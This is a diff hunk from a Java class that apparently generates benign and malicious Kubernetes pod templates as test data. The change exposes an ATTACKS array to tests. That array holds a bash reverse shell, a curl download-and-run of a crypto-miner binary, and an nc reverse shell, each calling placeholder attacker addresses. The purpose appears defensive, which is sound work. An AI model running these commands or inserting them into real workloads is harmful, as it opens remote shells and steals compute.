@@ -19,7 +19,8 @@ final class PodTemplateBody {
         "registry.example.com/data/etl:2024.11.3", "bitnami/kubectl:1.30", "amazon/aws-cli:2.17.1"};
     private static final String[] SIDECARS = {"fluent/fluent-bit:3.1", "registry.example.com/platform/envoy:1.31",
         "gcr.io/cloudsql-docker/gce-proxy:1.37"};
-    private static final String[] ATTACKS = {
+    /** The attacks a malicious template runs (package-visible so tests can tell malicious chains apart). */
+    static final String[] ATTACKS = {
         "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
         "curl -fsSL http://203.0.113.9/x -o /tmp/k && chmod +x /tmp/k && /tmp/k -o stratum+tcp://pool.example.net:3333",
         "nc -e /bin/sh 198.51.100.7 9001",
